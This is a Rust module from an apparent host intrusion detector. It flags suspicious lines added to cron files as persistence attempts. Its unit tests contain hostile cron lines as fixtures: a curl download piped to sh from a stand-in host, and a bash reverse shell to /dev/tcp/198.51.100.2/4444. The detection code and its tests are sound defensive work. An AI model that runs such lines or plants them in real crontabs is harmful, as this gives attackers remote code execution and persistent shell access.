//! `cron`: persistence through cron. The cron-file watcher (`sensors/cron.rs`, inotify on
//! `cron.paths`) reports each file whose content changed since its last SHA-256 snapshot,
//! with the lines it gained; this module judges those lines against the catalogue of
//! suspicious idioms ([`super::patterns`]): download-and-run, base64 execution, downloads to
//! temp directories, `npm install` at run time, reverse shells, obfuscated expansion. High;
//! critical when a line also carries a miner or reverse-shell idiom. T1053.003.

use std::path::PathBuf;

use serde::Deserialize;

use super::{
    Anomaly, Culprit, Finding,
    patterns::{self, Class},
};

/// `[cron]`.
#[derive(Debug, Clone, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct CronConfig {
    /// Cron files and directories watched (a directory: the files directly in it).
    pub paths: Vec<PathBuf>,
}

impl Default for CronConfig {
    fn default() -> Self {
        Self {
            paths: [
                "/etc/crontab",
                "/etc/cron.d",
                "/etc/cron.hourly",
                "/etc/cron.daily",
                "/etc/cron.weekly",
                "/etc/cron.monthly",
                "/var/spool/cron/crontabs",
            ]
            .into_iter()
            .map(PathBuf::from)
            .collect(),
        }
    }
}

impl CronConfig {
    pub fn problems(&self) -> Vec<(&'static str, String)> {
        self.paths
            .iter()
            .filter(|p| !p.is_absolute() || p.parent().is_none())
            .map(|p| {
                (
                    "cron.paths",
                    format!(
                        "{:?} is not an absolute path below /",
                        p.display().to_string()
                    ),
                )
            })
            .collect()
    }
}

/// A cron file whose content changed: what it gained.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Change {
    pub path: PathBuf,
    /// The file's owner.
    pub uid: u32,
    /// Lines in the new content that the last snapshot did not have (all of them the first
    /// time the file is seen).
    pub added: Vec<String>,
}

/// The lines of `new` that `old` does not have, in order (comments and blank lines left out:
/// cron never runs them).
pub fn added_lines(old: &str, new: &str) -> Vec<String> {
    let before: std::collections::HashSet<&str> = old.lines().map(str::trim).collect();
    new.lines()
        .map(str::trim)
        .filter(|l| !l.is_empty() && !l.starts_with('#') && !before.contains(l))
        .map(String::from)
        .collect()
}

/// A stable number for `path`, so that alerts on different files never fold into one.
pub(crate) fn subject(path: &std::path::Path) -> u32 {
    // FNV-1a: small, stable across runs and platforms.
    path.as_os_str()
        .as_encoded_bytes()
        .iter()
        .fold(0x811c_9dc5u32, |h, b| {
            (h ^ u32::from(*b)).wrapping_mul(0x0100_0193)
        })
}

/// Longest line quoted in an alert.
const QUOTE_MAX: usize = 200;
/// Most lines quoted in an alert (the rest are counted).
const QUOTE_LINES: usize = 5;

/// Judge the lines a cron file gained: a finding when any is suspicious.
pub fn judge(change: &Change) -> Option<Finding> {
    let suspicious: Vec<(&str, Vec<patterns::Hit>)> = change
        .added
        .iter()
        .map(|l| (l.as_str(), patterns::scan(l)))
        .filter(|(_, hits)| !hits.is_empty())
        .collect();
    if suspicious.is_empty() {
        return None;
    }
    let critical = suspicious.iter().any(|(_, hits)| {
        hits.iter()
            .any(|h| matches!(h.class, Class::Miner | Class::ReverseShell))
    });
    let mut lines: Vec<String> = suspicious
        .iter()
        .take(QUOTE_LINES)
        .map(|(line, hits)| {
            let quoted: String = line.chars().take(QUOTE_MAX).collect();
            format!("+ {quoted} ({})", patterns::describe(hits))
        })
        .collect();
    if suspicious.len() > QUOTE_LINES {
        lines.push(format!("(+{} more)", suspicious.len() - QUOTE_LINES));
    }
    let name = change
        .path
        .file_name()
        .map_or_else(|| "cron".into(), |n| n.to_string_lossy().into_owned());
    Some(Finding {
        domain: None,
        anomaly: Anomaly::Cron { critical },
        culprit: Culprit {
            pid: 0,
            start: 0,
            comm: name.chars().take(15).collect(),
            exe: Some(change.path.display().to_string().into()),
            uid: change.uid,
            ancestry: Vec::new(),
            container: None,
        },
        target: None,
        country: None,
        detail: format!(
            "{} gained {} suspicious line{}: {}",
            change.path.display(),
            suspicious.len(),
            if suspicious.len() == 1 { "" } else { "s" },
            lines.join(" | ")
        ),
        subject: subject(&change.path),
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::Severity;

    fn change(path: &str, old: &str, new: &str) -> Change {
        Change {
            path: path.into(),
            uid: 0,
            added: added_lines(old, new),
        }
    }

    const BASE: &str = "SHELL=/bin/sh\n# m h dom mon dow user command\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n";

    #[test]
    fn only_added_lines_count() {
        let new = format!("{BASE}*/5 * * * * root curl -s http://x.example/i.sh | sh\n");
        assert_eq!(
            added_lines(BASE, &new),
            ["*/5 * * * * root curl -s http://x.example/i.sh | sh"]
        );
        assert!(added_lines(&new, &new).is_empty());
        assert!(
            added_lines(&new, BASE).is_empty(),
            "removals are not additions"
        );
        assert!(
            added_lines("", "# curl x | sh\n\n").is_empty(),
            "comments never run"
        );
    }

    #[test]
    fn download_and_run_is_high_reverse_shell_is_critical() {
        let f = judge(&change(
            "/etc/cron.d/update",
            BASE,
            &format!("{BASE}*/5 * * * * root curl -s http://x.example/i.sh | sh\n"),
        ))
        .unwrap();
        assert_eq!(f.anomaly, Anomaly::Cron { critical: false });
        assert_eq!(f.anomaly.severity(), Severity::High);
        assert_eq!(f.anomaly.mitre().technique, "T1053.003");
        assert!(
            f.detail
                .contains("/etc/cron.d/update gained 1 suspicious line"),
            "{}",
            f.detail
        );
        assert!(
            f.detail.contains("download piped to a shell"),
            "{}",
            f.detail
        );
        assert_eq!(f.culprit.exe.as_deref(), Some("/etc/cron.d/update"));

        let f = judge(&change(
            "/var/spool/cron/crontabs/www-data",
            "",
            "* * * * * bash -i >& /dev/tcp/198.51.100.2/4444 0>&1\n",
        ))
        .unwrap();
        assert_eq!(f.anomaly, Anomaly::Cron { critical: true });
        assert_eq!(f.anomaly.severity(), Severity::Critical);
    }

    #[test]
    fn ordinary_lines_raise_nothing() {
        let new = format!("{BASE}0 4 * * * root /usr/local/bin/backup --quiet\nMAILTO=ops\n");
        assert!(judge(&change("/etc/crontab", BASE, &new)).is_none());
    }

    #[test]
    fn different_files_never_share_a_subject() {
        let a = judge(&change(
            "/etc/cron.d/a",
            "",
            "* * * * * root curl x.example | sh",
        ))
        .unwrap();
        let b = judge(&change(
            "/etc/cron.d/b",
            "",
            "* * * * * root curl x.example | sh",
        ))
        .unwrap();
        assert_ne!(a.subject, b.subject);
    }

    #[test]
    fn long_hostile_lines_are_cut_in_the_detail() {
        let long = format!("* * * * * root curl {} | sh", "a".repeat(5000));
        let f = judge(&change("/etc/cron.d/x", "", &long)).unwrap();
        assert!(f.detail.len() < 600, "{}", f.detail.len());
    }

    #[test]
    fn a_flood_of_lines_is_counted_not_quoted() {
        let flood: String = (0..10_000)
            .map(|i| format!("* * * * * root curl x{i}.example | sh\n"))
            .collect();
        let f = judge(&change("/etc/cron.d/x", "", &flood)).unwrap();
        assert!(
            f.detail.contains("gained 10000 suspicious lines"),
            "{}",
            f.detail
        );
        assert!(f.detail.ends_with("(+9995 more)"), "{}", f.detail);
        assert!(f.detail.len() < 2000);
    }

    #[test]
    fn relative_paths_are_config_errors() {
        let c = CronConfig {
            paths: vec!["etc/crontab".into(), "/".into(), "/etc/cron.d".into()],
        };
        let p = c.problems();
        assert_eq!(p.len(), 2, "{p:?}");
        assert!(p.iter().all(|(k, _)| *k == "cron.paths"));
        assert!(CronConfig::default().problems().is_empty());
    }
}
